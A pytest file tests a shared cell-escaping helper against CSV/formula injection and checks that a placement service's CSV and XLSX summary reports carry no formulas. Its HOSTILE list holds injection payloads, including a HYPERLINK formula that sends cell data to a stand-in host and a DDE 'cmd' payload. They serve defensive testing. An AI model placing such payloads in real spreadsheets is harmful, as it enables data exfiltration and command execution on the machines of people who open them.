"""Spreadsheets the system writes cannot carry a formula: the shared escape, and the placement report using it."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from services.placement.adapters.spreadsheets import summary_csv, summary_xlsx
from services.placement.domain.figures import FLAT_ORDER
from shared.cells import safe_cell

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_is_escaped(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["电焊", "4109", "a=b", "", 3, -2, 0.5, None])
def test_other_values_are_untouched(value):
    assert safe_cell(value) == value


def report(region: str) -> dict:
    figures: dict = {"region": region, "from": date(2026, 1, 1), "to": date(2026, 6, 30)}
    for name in FLAT_ORDER:
        *parents, leaf = name.split(".")
        node = figures
        for part in parents:
            node = node.setdefault(part, {})
        node[leaf] = -1 if leaf == "reemployed" else 0
    return figures


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_summary_files_carry_no_formula(hostile):
    rows = list(csv.reader(io.StringIO(summary_csv(report(hostile)).decode("utf-8-sig"))))
    region = next(r for r in rows if r[0] == "region")
    assert region[1] == "'" + hostile
    book = load_workbook(io.BytesIO(summary_xlsx(report(hostile))))
    cells = {row[0]: row[1] for row in book.active.iter_rows(values_only=True)}
    # (XML reads a carriage return back as a line feed.)
    assert cells["region"].startswith("'") and cells["region"][1:].replace("\n", "\r") == hostile
    assert cells["reemployed"] == -1  # a negative number stays a number
    assert not any(isinstance(c.value, str) and c.data_type == "f" for row in book.active.iter_rows() for c in row)
